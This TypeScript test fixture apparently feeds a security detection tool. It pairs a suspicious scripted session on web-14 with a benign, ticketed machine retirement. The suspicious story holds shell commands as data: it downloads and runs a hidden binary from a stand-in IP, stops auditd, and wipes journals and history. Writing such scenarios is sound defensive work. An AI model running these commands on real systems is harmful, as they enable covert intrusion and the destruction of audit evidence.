import type { Story } from './story'

const MINUTE = 60_000
const odd = { user: 'bram.oster', machine: 'web-14', address: '192.0.2.77' }
const plain = { user: 'piet.anders', machine: 'app-19' }

/** A machine that goes so that nobody may look at it. */
export const REMOVED_MACHINE: Story = {
  name: 'removed-machine',
  title: 'A machine is removed after odd commands',
  description:
    'Late on an evening bram.oster fetches a program to web-14, wipes its history and journal, and removes the ' +
    'machine a quarter of an hour later. No ticket is named anywhere.',
  before: 6 * 86_400_000,
  utcHour: 22,
  utcMinute: 20,
  lasts: 60 * MINUTE,
  actors: ['bram.oster', 'web-14'],
  steps: () => [
    { kind: 'login', at: 0, user: odd.user, address: odd.address },
    {
      kind: 'visit',
      at: 2 * MINUTE,
      ...odd,
      pace: 50_000,
      commands: [
        'id; sudo -l',
        'curl -fsSL http://203.0.113.44:8081/x86 -o /dev/shm/.k',
        'chmod +x /dev/shm/.k && nohup /dev/shm/.k >/dev/null 2>&1 &',
        'sudo ss -tlnp',
        'sudo systemctl stop auditd',
        'shred -u /dev/shm/.k',
        'sudo journalctl --rotate && sudo journalctl --vacuum-time=1s',
        'history -c; unset HISTFILE',
      ],
    },
    { kind: 'machine_deleted', at: 26 * MINUTE, ...odd },
    { kind: 'logout', at: 27 * MINUTE, user: odd.user, address: odd.address },
  ],
}

/** Looks like it, and is announced work. */
export const RETIRED_MACHINE: Story = {
  name: 'retired-machine',
  title: 'A machine is retired as planned',
  description:
    'On a working day piet.anders retires app-19 step by step; every command names the change ticket CHG-20418.',
  looksLike: 'removed-machine',
  before: 20 * 86_400_000,
  utcHour: 9,
  utcMinute: 30,
  lasts: 90 * MINUTE,
  actors: ['piet.anders', 'app-19'],
  steps: () => [
    { kind: 'login', at: 0, user: plain.user },
    {
      kind: 'visit',
      at: 3 * MINUTE,
      ...plain,
      pace: 240_000,
      commands: [
        'logger "CHG-20418 begin: retire app-19"',
        'sudo systemctl stop orders # CHG-20418',
        'sudo tar -czf /srv/share/archive/app-19-CHG-20418.tgz /etc /srv/orders',
        'sha256sum /srv/share/archive/app-19-CHG-20418.tgz',
        'sudo shred -u /etc/orders/secrets.env # CHG-20418 step 4',
        'logger "CHG-20418 done: app-19 may be removed"',
      ],
    },
    { kind: 'machine_deleted', at: 75 * MINUTE, ...plain },
    { kind: 'logout', at: 80 * MINUTE, user: plain.user },
  ],
}
